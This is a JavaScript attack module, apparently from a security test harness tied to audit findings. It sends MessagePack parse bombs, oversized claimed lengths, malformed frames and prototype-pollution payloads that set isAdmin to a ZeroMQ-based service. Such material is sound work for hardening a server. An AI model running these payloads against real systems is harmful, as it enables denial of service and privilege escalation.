/** Messages and counts that are small on the wire, and large or slow where they are read. */
import { bodyOf } from '../attacker-tools.js'

const MESSAGE_BYTES = 15 * 2 ** 20
const PAUSE_MS = 100
const HANG_UP_MS = 2_000

function filled(head, item, count) {
  const itemBytes = Buffer.from(item)
  return Buffer.concat([head, Buffer.alloc(itemBytes.length * count, itemBytes)])
}

function array(count, item) {
  const head = Buffer.alloc(5)
  head[0] = 0xdd
  head.writeUInt32BE(count, 1)
  return filled(head, item, count)
}

/** A map of keys from `keyOf`, each with nil. */
function map(count, keyOf) {
  const bytes = Buffer.allocUnsafe(5 + count * 12)
  bytes[0] = 0xdf
  bytes.writeUInt32BE(count, 1)
  let at = 5
  for (let index = 0; index < count; index++) {
    const length = bytes.latin1Write(keyOf(index), at + 1)
    bytes[at] = 0xa0 | length
    at += 1 + length
    bytes[at++] = 0xc0
  }
  return bytes.subarray(0, at)
}

function claimed(type, count) {
  const head = Buffer.alloc(5)
  head[0] = type
  head.writeUInt32BE(count, 1)
  return head
}

/** Bodies by name; functions, because all of them take 200 MB. */
const BODIES = {
  'distinct keys': () => map(1_500_000, (index) => index.toString(36)),
  'digits as keys': () => map(1_200_000, (index) => `${index}`),
  'multiples of 4096 as keys': () => map(1_000_000, (index) => `${index * 4_096}`),
  dates: () => array(1_000_000, [0xd6, 0xff, 0, 0, 0, 1]),
  nils: () => array(MESSAGE_BYTES, [0xc0]),
  'empty maps': () => array(MESSAGE_BYTES, [0x80]),
  '65,000 maps': () => array(65_000, [0x80]),
  '32,000 keys': () => map(32_000, (index) => index.toString(36)),
  nested: () => Buffer.alloc(1_000_000, 0x91),
  'a claimed array': () => claimed(0xdd, 2 ** 32 - 1),
  'a claimed map': () => claimed(0xdf, 2 ** 32 - 1),
  'a claimed text': () => claimed(0xdb, 2 ** 32 - 1),
  'claimed bytes': () => claimed(0xc6, 2 ** 32 - 1),
  'text that is not UTF-8': () => filled(claimed(0xdb, 2 ** 20), [0xff], 2 ** 20),
  __proto__: () =>
    Buffer.concat([Buffer.from([0x81, 0xa9]), Buffer.from('__proto__'), bodyOf({ isAdmin: true })]),
  constructor: () =>
    Buffer.concat([
      Buffer.from([0x81, 0xab]),
      Buffer.from('constructor'),
      bodyOf({ prototype: { isAdmin: true } }),
    ]),
}

const counts = (bytes) => Buffer.from(bytes.replaceAll(' ', ''), 'hex')

/** Frames whose counts are larger than they are. */
const COUNTED = [
  counts('01 0002 0000000000000001 0000 00000001 00000003 0000 00 ffff'),
  counts('01 0002 0000000000000001 ffff'),
  counts('02 0000000000000001 ffff'),
  counts('03 ffff'),
  counts('0c 0000000000000001 ffff'),
  counts(`06 00000003 00000001 00000001 ${'00'.repeat(15)} 01 ffffffff 00000000 00000000 00`),
  counts(`06 00000003 00000001 00000001 ${'00'.repeat(15)} 01 00000001 ffffffff 00000000 00`),
  counts(`06 00000003 00000001 00000001 ${'00'.repeat(15)} 01 00000001 00000000 ffffffff 00`),
]

export const BOMBS = [
  {
    name: 'bombs',
    letter: 'f',
    finding: 'F9',
    about: 'messages of up to 15 MB that take seconds to decode without a limit',
    run: async (attacker) => {
      const { link, session } = await attacker.session()
      const names = Object.keys(BODIES)
      for (let index = 0; !attacker.over && !link.closed; index++) {
        await session.sendBodies([BODIES[names[index % names.length]]()])
        attacker.count('messages')
        await attacker.wait(PAUSE_MS)
      }
    },
  },
  {
    name: 'allowed-bombs',
    letter: 'f',
    finding: 'F9',
    abortsLibzmq: 'D-028',
    about: 'messages of as many values as are allowed, as fast as they are taken',
    run: async (attacker) => {
      const { link, session } = await attacker.session()
      const bodies = [BODIES['32,000 keys'](), BODIES['65,000 maps']()]
      while (!attacker.over && !link.closed) {
        await session.sendBodies(bodies)
        attacker.count('messages', bodies.length)
      }
    },
  },
  {
    name: 'slow-disconnect',
    letter: 'f',
    finding: 'F2',
    abortsLibzmq: 'D-028',
    about: 'more slow messages than are read in time, and hangs up',
    run: async (attacker) => {
      const { link, session } = await attacker.session()
      const body = BODIES['32,000 keys']()
      const endMs = performance.now() + HANG_UP_MS
      while (!attacker.over && !link.closed && performance.now() < endMs) {
        await session.sendBodies([body])
        attacker.count('messages')
      }
    },
  },
  {
    name: 'huge-counts',
    letter: 'f',
    about: 'frames of counts that are larger than they are',
    run: async (attacker) => {
      const { link } = await attacker.session()
      for (let sent = 0; !attacker.over && !link.closed; sent++) {
        attacker.count('frames')
        await link.send([COUNTED[sent % COUNTED.length]])
      }
    },
  },
]
